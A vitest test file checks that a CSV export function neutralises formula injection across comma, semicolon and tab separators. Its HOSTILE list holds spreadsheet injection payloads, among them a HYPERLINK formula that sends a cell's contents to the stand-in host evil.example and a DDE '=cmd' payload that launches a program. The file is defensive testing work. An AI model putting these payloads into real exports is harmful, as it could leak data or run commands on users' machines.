/**
 * CSV injection: no cell of an export may start a formula, whether the file is read with the RFC's
 * `,` (English settings, QGIS, pandas) or with `;` (a spreadsheet with Italian settings opened by a
 * double-click), or tab. On the old code `nota;=HYPERLINK(...)` went out unquoted, and with Italian
 * settings its second half became a cell starting with `=`.
 */
import { describe, expect, it } from 'vitest';
import { csvLine } from '../../../src/panel/report-export';

/** Splits one CSV line as a spreadsheet does with the given separator (quotes respected). */
function cellsAs(line: string, separator: string): string[] {
  const cells: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < line.length; i++) {
    const ch = line[i]!;
    if (quoted) {
      if (ch === '"' && line[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"' && cell === '') quoted = true;
    else if (ch === separator) {
      cells.push(cell);
      cell = '';
    }
    else if (ch !== '\r' && ch !== '\n') cell += ch;
  }
  cells.push(cell);
  return cells;
}

const STARTS_A_FORMULA = /^\s*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]/;

const HOSTILE = [
  'nota;=HYPERLINK("http://evil.example/?"&A1;"clicca")',
  'ok\t=1+1',
  'a,b;@SUM(1)',
  '  =cmd|" /C calc"!A0',
  '\uFF1D1+1',
  '-2+3',
  'via Roma 3; +39 333 1234567',
  'plain text, with a comma',
];

describe('csv cells', () => {
  for (const separator of [',', ';', '\t']) {
    it(`never start a formula when read with ${JSON.stringify(separator)} as the separator`, () => {
      for (const text of HOSTILE) {
        const cells = cellsAs(csvLine(['VIC-2026-000001', text, 12.5]).trimEnd(), separator);
        for (const cell of cells) expect(cell, `${JSON.stringify(text)} -> ${JSON.stringify(cell)}`).not.toMatch(STARTS_A_FORMULA);
      }
    });
  }

  it('keeps the text readable: one apostrophe in front, nothing else changed', () => {
    expect(cellsAs(csvLine(['=1+1']).trimEnd(), ',')).toEqual(["'=1+1"]);
    expect(cellsAs(csvLine(['nota;=X']).trimEnd(), ',')).toEqual(["nota;'=X"]);
    expect(cellsAs(csvLine([12.5, null]).trimEnd(), ',')).toEqual(['12.5', '']);
  });
});
